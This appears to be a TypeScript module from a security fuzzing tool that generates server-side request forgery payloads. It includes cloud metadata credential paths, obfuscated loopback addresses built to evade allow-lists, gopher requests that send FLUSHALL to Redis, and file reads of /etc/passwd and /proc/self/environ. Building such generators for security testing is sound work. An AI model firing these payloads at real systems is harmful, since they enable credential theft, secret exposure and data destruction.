import type { Random } from '../../random.js';
import type { PayloadFamily } from '../payload-family.js';

// Internal addresses, and the spellings of loopback that naive allow-lists miss.
const HOSTS = [
  '169.254.169.254',
  'metadata.google.internal',
  '127.0.0.1',
  'localhost',
  '[::1]',
  '0.0.0.0',
  '10.0.0.1',
  '192.168.0.1',
  '2130706433',
  '0x7f000001',
  '127.1',
];
const PATHS = [
  '/latest/meta-data/iam/security-credentials/',
  '/computeMetadata/v1/instance/',
  '/admin',
  '/server-status',
  '/',
];
const PORTS = [22, 25, 2375, 6379, 8500, 9200, 11211];

const host = (r: Random) => r.pick(HOSTS);

/** Server-side request forgery: internal and metadata addresses in URL parameters, odd schemes and spellings. */
export const SSRF: PayloadFamily = {
  name: 'ssrf',
  summary: 'server-side request forgery: metadata and internal addresses, gopher/file/dict schemes',
  templates: [
    (r) => `http://${host(r)}${r.pick(PATHS)}`,
    (r) => `http://${r.word(5)}@${host(r)}${r.pick(PATHS)}`,
    (r) => `http://${host(r)}:${r.pick(PORTS)}/`,
    (r) => `gopher://127.0.0.1:${r.pick([6379, 11211, 25])}/_${r.pick(['INFO', 'FLUSHALL', 'stats'])}`,
    (r) => `dict://${host(r)}:${r.pick(PORTS)}/info`,
    (r) => `file:///${r.pick(['etc/passwd', 'proc/self/environ', 'c:/windows/win.ini'])}`,
  ],
  points: ['url-param', 'json', 'form'],
  encodings: ['plain', 'url'],
};
